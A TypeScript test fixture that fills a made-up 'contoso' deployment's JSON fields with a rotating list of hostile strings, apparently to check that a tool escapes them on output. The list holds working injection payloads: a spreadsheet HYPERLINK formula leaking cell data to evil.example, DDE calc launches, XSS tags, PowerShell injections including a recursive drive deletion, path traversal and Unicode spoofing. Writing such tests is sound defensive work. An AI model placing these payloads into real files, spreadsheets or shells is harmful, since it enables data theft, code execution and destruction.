/** The invented deployment with something hostile in every text that a person or a directory chooses. */
import { readFileSync } from 'node:fs';
import { basename } from 'node:path';
import { fixturePath } from '../support/deployments.js';

/** Stands in every hostile text, so that it is found wherever it comes out. */
export const mark = 'HOSTILE7';

/** Each begins or ends in another way, for what it would be taken for elsewhere. */
export const hostileTexts = [
  `=HYPERLINK("https://evil.example/?"&A1,"${mark}")`,
  `+cmd|'/c calc ${mark}'!A1`,
  `-2+${mark}`,
  `@SUM(1)${mark}`,
  `\t=1+1 ${mark}`,
  `\r=1+1 ${mark}`,
  `\n=1+1 ${mark}\r\nBcc: x@evil.example`,
  `${mark}\u001b[31m\u001b]0;owned\u0007\u009b2J\u0000\u0008`,
  `${mark}\u202egnp.exe\u2066\u200b\ufeff\u{e0041}\u2028`,
  `"><img src=x onerror=alert(1)>${mark}</script></textarea><!--`,
  `[${mark}](javascript:alert(1)) ![x](https://evil.example/x.png) | \`\`\` ~~x~~ <b>`,
  `'; Remove-Item C:\\ -Recurse # ${mark}`,
  `\u2019; Start-Process calc; \u2018${mark}`,
  `"; $(Start-Process calc) ; "${mark}`,
  `\`"$(calc)\`n${mark}`,
  `'@\r\n$(calc)\r\n@'${mark}`,
  `../../../../tmp/${mark}`,
  `..\\..\\${mark}`,
  `CON ${mark}.`,
  `NUL:${mark}. `,
  `lone \ud800 ${mark}`,
  `%COMSPEC% %00 %0d%0a ${mark}`,
  `__proto__ ${mark}`,
  `p\u0430ssw\u043erd ${mark}`,
] as const;

/** What a text must be for the document to be what it is: classes, ids, times, addresses by which things are found. */
const structural = /^(?:_t|_id|Id|Type|Version|\$.*|.*Ids?|.*Time|EncryptedBytes|Sid|IsEnabled|DomainId)$/;

/** Both files of `contoso` with hostile texts in turn, as JSON texts. `start` chooses with which one to begin. */
export function hostileDeployment(start = 0): HostileFile[] {
  return hostileFiles(['contoso/SystemProfile_20251215T040000Z.json', 'contoso/UniqueEntity.json'], start);
}

/** Its suspicious activities, likewise. */
export function hostileAlerts(): HostileFile[] {
  return hostileFiles(['contoso-alerts/SuspiciousActivity.json'], 0);
}

interface HostileFile {
  readonly name: string;
  readonly text: string;
}

function hostileFiles(paths: readonly string[], start: number): HostileFile[] {
  let next = start;
  function hostile(value: unknown, key: string): unknown {
    if (typeof value === 'string' && !structural.test(key)) {
      next += 1;
      return hostileTexts[next % hostileTexts.length];
    }
    if (Array.isArray(value)) return value.map((element) => hostile(element, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, member]) => [name, hostile(member, name)]));
  }
  return paths.map((path) => {
    const name = basename(path);
    const text = readFileSync(fixturePath(path), 'utf8').trim();
    const documents = JSON.parse(
      text.startsWith('[') ? text : `[${text.replace(/\}\s*\n(?=\{)/g, '},')}]`,
    ) as unknown[];
    return { name, text: JSON.stringify(documents.map((document) => hostile(document, ''))) };
  });
}
